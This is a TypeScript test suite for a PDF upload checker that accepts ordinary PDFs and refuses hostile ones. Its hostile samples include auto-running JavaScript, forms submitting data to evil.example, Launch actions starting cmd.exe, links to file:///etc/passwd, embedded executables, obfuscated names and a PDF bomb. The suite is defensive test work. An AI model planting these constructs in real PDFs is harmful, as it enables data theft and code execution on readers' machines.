import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { aCompressedPdf, anEncryptedPdf, annotationWith, aPdf, aPdfBomb, stream } from '../../../test/pdfs'
import { HttpError } from '../../lib/errors'
import { checkPdf, PDF_FAULTS, type PdfFault } from './check-pdf'

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const FILE = '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'
const SUBMIT = '<< /S /SubmitForm /F (https://evil.example/) >>'
const LAUNCH = '<< /S /Launch /F (cmd.exe) >>'
const linkThen = (next: string) => annotationWith(`<< /S /URI /URI (https://kilele.example/) /Next ${next} >>`)
const withBookmark = (entries: string) => ({
  catalog: '/Outlines 5 0 R',
  objects: ['<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>', `<< /Title (Plan) /Parent 5 0 R ${entries} >>`],
})
/** A field of a form, which stands on the page. */
const withField = (entries: string) => ({
  catalog: '/AcroForm << /Fields [5 0 R] >>',
  page: '/Annots [5 0 R]',
  objects: [`<< /Type /Annot /Subtype /Widget /T (field) /Rect [0 0 99 20] ${entries} >>`],
})
const CHECKBOX = '/FT /Btn'
const TEXT = '/FT /Tx'
const BUTTON = '/FT /Btn /Ff 65536'
const field = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 99 99] ${action} >>]`

const FINE: Readonly<Record<string, Buffer>> = {
  'one page': aPdf(),
  'compressed object streams': aCompressedPdf(),
  'links to a page, an address and a number': aPdf({
    page: `/Annots [${['https://kilele.example/', 'mailto:a@kilele.example', 'tel:+254700000000']
      .map((uri) => `<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${uri}) >> >>`)
      .join(' ')}]`,
  }),
  'a link within the document': aPdf({ page: annotationWith('<< /S /GoTo /D [3 0 R /Fit] >>') }),
  'a note': aPdf({ page: '/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents (Mind the step) >>]' }),
  'a filled-in form': aPdf(withField(`${TEXT} /V (28400)`)),
  'a ticked box': aPdf(withField(`${CHECKBOX} /V /Yes /AS /Yes`)),
  'a button without an action': aPdf(withField(BUTTON)),
  'a button that opens a web page': aPdf(withField(`${BUTTON} /A << /S /URI /URI (https://kilele.example/) >>`)),
  'a bookmark to a page': aPdf(withBookmark('/Dest [3 0 R /Fit]')),
  'a bookmark with an action': aCompressedPdf(withBookmark('/A << /S /GoTo /D [3 0 R /Fit] >>')),
  'a page to begin with': aPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
  'layers that a link shows': aPdf({
    catalog: '/OCProperties << /OCGs [5 0 R] /D << /Order [5 0 R] /ON [5 0 R] >> >>',
    page: annotationWith('<< /S /SetOCGState /State [/Toggle 5 0 R] >>'),
    objects: ['<< /Type /OCG /Name (Furniture) >>'],
  }),
  'headings for screen readers': aPdf({
    catalog: '/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R',
    objects: ['<< /Type /StructTreeRoot /K [6 0 R] >>', '<< /Type /StructElem /S /H1 /P 5 0 R /Pg 3 0 R /K 0 >>'],
  }),
  'an empty list of attachments': aPdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >> /AF []' }),
}

const HOSTILE: readonly (readonly [name: string, fault: PdfFault, file: Buffer])[] = [
  ['a script that runs when it opens', 'script', aPdf({ catalog: `/OpenAction ${SCRIPT}` })],
  ['a script hidden in an object stream', 'script', aCompressedPdf({ catalog: `/OpenAction ${SCRIPT}` })],
  [
    'a script whose name is written in another way',
    'script',
    aPdf({ catalog: '/Open#41ction << /S /J#61vaScript /JS 5 0 R >>', objects: [stream('app.alert(1)')] }),
  ],
  ['a named script', 'script', aPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` })],
  ['a script that runs when it is printed', 'script', aPdf({ catalog: `/AA << /WP ${SCRIPT} >>` })],
  ['a script of a page', 'script', aPdf({ page: `/AA << /O ${SCRIPT} >>` })],
  ['a script of a link', 'script', aPdf({ page: annotationWith(SCRIPT) })],
  ['a script of a field', 'script', aPdf({ page: field(`/AA << /K ${SCRIPT} >>`) })],
  ['a button that submits', 'form', aPdf({ page: field(`/A ${SUBMIT}`) })],
  [
    'a form whose button submits',
    'form',
    aCompressedPdf({
      catalog: '/AcroForm << /Fields [5 0 R] >>',
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>',
      ],
    }),
  ],
  ['a link that submits', 'form', aPdf({ page: annotationWith(SUBMIT) })],
  [
    'an XFA form',
    'form',
    aPdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      objects: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')],
    }),
  ],
  [
    'an attachment',
    'attachment',
    aPdf({ catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${FILE}] >> >>`, objects: [stream('MZ')] }),
  ],
  [
    'a file on its page',
    'attachment',
    aPdf({ page: `/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${FILE} >>]`, objects: [stream('MZ')] }),
  ],
  ['a film', 'attachment', aPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
  ['a portfolio', 'attachment', aPdf({ catalog: '/Collection << /View /T >>' })],
  ['a password', 'encrypted', anEncryptedPdf('secret')],
  ['encryption without a password', 'encrypted', anEncryptedPdf('')],
  ['a link that starts a program', 'launch', aPdf({ page: annotationWith(LAUNCH) })],
  [
    'a link that starts a program of Windows',
    'launch',
    aPdf({ page: annotationWith('<< /S /Launch /Win << /F (cmd.exe) >> >>') }),
  ],
  ['a link to a file', 'launch', aPdf({ page: annotationWith('<< /S /URI /URI (file:///etc/passwd) >>') })],
  [
    'a link to another document',
    'launch',
    aPdf({ page: annotationWith('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>') }),
  ],
  ['a bookmark that starts a program', 'launch', aPdf(withBookmark(`/A ${LAUNCH}`))],
  ['a bookmark with a script', 'script', aPdf(withBookmark(`/A ${SCRIPT}`))],
  ['a bookmark that submits', 'form', aCompressedPdf(withBookmark(`/A ${SUBMIT}`))],
  ['a link that goes on with a script', 'script', aPdf({ page: linkThen(SCRIPT) })],
  ['a link that goes on to submit', 'form', aPdf({ page: linkThen(`[${SUBMIT}]`) })],
  ['a link that goes on to start a program', 'launch', aPdf({ page: linkThen(LAUNCH) })],
  ['a link that goes on to a file', 'launch', aPdf({ page: linkThen('<< /S /URI /URI ( File:///etc/passwd) >>') })],
  [
    'a page to begin with that goes on with a script',
    'script',
    aCompressedPdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>` }),
  ],
  ['a program that starts when it opens', 'launch', aPdf({ catalog: `/OpenAction ${LAUNCH}` })],
  ['a form that submits when it opens', 'form', aPdf({ catalog: `/OpenAction ${SUBMIT}` })],
  ['a form that submits when it closes', 'form', aPdf({ catalog: `/AA << /WC ${SUBMIT} >>` })],
  ['a form that fetches its data', 'form', aPdf({ catalog: '/OpenAction << /S /ImportData /F (a.fdf) >>' })],
  ['a page that starts a program', 'launch', aPdf({ page: `/AA << /O ${LAUNCH} >>` })],
  ['a box that submits', 'form', aPdf(withField(`${CHECKBOX} /A ${SUBMIT}`))],
  ['a box that submits when it is left', 'form', aPdf(withField(`${CHECKBOX} /AA << /Bl ${SUBMIT} >>`))],
  ['a text field that submits', 'form', aPdf(withField(`${TEXT} /A ${SUBMIT}`))],
  ['a text field that submits when it is left', 'form', aPdf(withField(`${TEXT} /AA << /Bl ${SUBMIT} >>`))],
  [
    'a button that opens a web page, and submits',
    'form',
    aPdf(withField(`${BUTTON} /A << /S /URI /URI (https://kilele.example/) >> /AA << /U ${SUBMIT} >>`)),
  ],
  [
    'a script of a field that stands on no page',
    'script',
    aPdf({ catalog: '/AcroForm << /Fields [5 0 R] >>', objects: [`<< ${TEXT} /T (sum) /AA << /C ${SCRIPT} >> >>`] }),
  ],
  [
    'a file attached to the document itself',
    'attachment',
    aPdf({ catalog: `/AF [${FILE}]`, objects: [stream('MZ', '/Type /EmbeddedFile')] }),
  ],
  ['a link into an attached document', 'attachment', aPdf({ page: linkThen('<< /S /GoToE /T << /R /C >> >>') })],
  ['a sound when it opens', 'attachment', aPdf({ catalog: '/OpenAction << /S /Sound >>' })],
  [
    'an action whose type is written elsewhere, in another way',
    'launch',
    aCompressedPdf({ catalog: '/OpenAction << /S 5 0 R /F (cmd.exe) >>', objects: ['6 0 R', '/#4caunc#68'] }),
  ],
  [
    'an attachment that is written elsewhere twice',
    'attachment',
    aCompressedPdf({
      catalog: '/Names 5 0 R',
      objects: ['<< /Other [<< /EF 6 0 R >>] >>', '7 0 R', '<< /F 8 0 R >>', stream('MZ')],
    }),
  ],
  ['a link whose address is no text', 'launch', aPdf({ page: linkThen('<< /S /URI /URI 7 >>') })],
  ['an action behind an object of the same number that nothing refers to', 'launch', aShadowedPdf()],
  ['arrays nested deeper than any document', 'unreadable', aPdf({ objects: ['['.repeat(5_000) + ']'.repeat(5_000)] })],
  ['a damaged table of objects', 'unreadable', aDamagedPdf()],
  ['no content', 'unreadable', Buffer.alloc(0)],
  ['a web page', 'unreadable', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a cut file', 'unreadable', Buffer.from('%PDF-1.7\n')],
  ['more pages than anybody reads', 'too-long', aPdf({ pages: 501 })],
]

const PROGRAM = new URL('inspect-pdf.mjs', import.meta.url).href

void describe('inspecting a PDF', () => {
  /** In this process: each of its own would load pdf.js again. */
  async function faultOf(file: Buffer): Promise<PdfFault | null> {
    const { findFault } = (await import(PROGRAM)) as { findFault: (file: Uint8Array) => Promise<PdfFault | null> }
    // qpdf is a program: it sets the exit code when it cannot read a file.
    const { exitCode } = process
    try {
      return await findFault(new Uint8Array(file))
    } finally {
      process.exitCode = exitCode
    }
  }

  for (const [name, file] of Object.entries(FINE)) {
    it(`accepts ${name}`, async () => assert.equal(await faultOf(file), null))
  }

  for (const [name, fault, file] of HOSTILE) {
    it(`refuses ${name}`, async () => assert.equal(await faultOf(file), fault))
  }
})

void describe('checking a PDF in a process of its own', { concurrency: 2 }, () => {
  it('accepts one without a fault', () => checkPdf(aPdf()))

  for (const [name, fault, file] of HOSTILE.filter(([, fault], index) => index === firstWith(fault))) {
    it(`says why when it refuses ${name}`, () => assert.rejects(checkPdf(file), new HttpError(415, PDF_FAULTS[fault])))
  }

  it('gives up when the content takes more memory than a document needs', () =>
    assert.rejects(
      checkPdf(aPdfBomb(), { deadlineMs: 10 * 60_000, memoryBytes: 320 * 1024 * 1024 }),
      new HttpError(415, PDF_FAULTS['too-complex']),
    ))

  it('gives up when the time is over', () =>
    assert.rejects(
      checkPdf(aPdfBomb(), { deadlineMs: 1, memoryBytes: Number.POSITIVE_INFINITY }),
      new HttpError(415, PDF_FAULTS['too-complex']),
    ))
})

function firstWith(fault: PdfFault): number {
  return HOSTILE.findIndex(([, other]) => other === fault)
}

/** Readers follow its table to the first object 5; who reads from the top to the end takes the second. */
function aShadowedPdf(): Buffer {
  const file = aPdf({ catalog: '/OpenAction 5 0 R', objects: [LAUNCH] })
  const end = file.subarray(file.indexOf('startxref'))
  return Buffer.concat([file, Buffer.from('5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n'), end])
}

function aDamagedPdf(): Buffer {
  return Buffer.from(
    aPdf()
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n7'),
    'latin1',
  )
}
